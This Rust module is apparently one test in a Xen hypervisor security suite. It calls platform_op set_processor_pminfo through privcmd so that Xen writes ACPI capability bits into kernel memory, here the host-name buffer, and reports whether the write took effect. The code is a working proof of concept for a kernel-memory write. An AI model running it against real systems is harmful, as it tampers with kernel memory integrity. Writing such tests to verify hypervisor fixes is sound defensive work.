//! ACPI data for the processors: Xen writes its own bits behind a pointer that stands in a union.

use super::{Attack, Level};
use crate::outcome::{Outcome, absent_or_held, breached};
use crate::witness::{HostName, version_works};
use crate::xen::Privcmd;

pub(super) const ATTACK: Attack = Attack {
    id: "acpi-data-write",
    rule: "B3",
    level: Level::Integrity,
    summary: "platform_op(set_processor_pminfo) with ACPI capabilities in kernel memory: Xen changes them there",
    needs: "privcmd",
    observed: "the kernel's host name changes without a system call",
    healthy: true,
    timeout_s: super::USUAL_S,
    run,
    twin: || version_works(&Privcmd::open()?),
};

fn run() -> Outcome {
    const SET_PMINFO: u32 = 54;
    /// `XEN_PM_PDC`, in the upper half of the first word; the lower half says whatever processor.
    const CAPABILITIES: u64 = 3 << 32;
    let privcmd = Privcmd::open()?;
    // Revision 1, one word, and what Xen is to change.
    let words: [u32; 3] = [1, 1, u32::MAX];
    let bytes: Vec<u8> = words.iter().flat_map(|word| word.to_le_bytes()).collect();
    let name = HostName::set(&bytes)?;
    let answer = privcmd.platform(SET_PMINFO, &[CAPABILITIES | u64::from(u32::MAX), name.address]);
    if name.changed()? { breached(name.told()?) } else { absent_or_held("set_processor_pminfo", answer) }
}
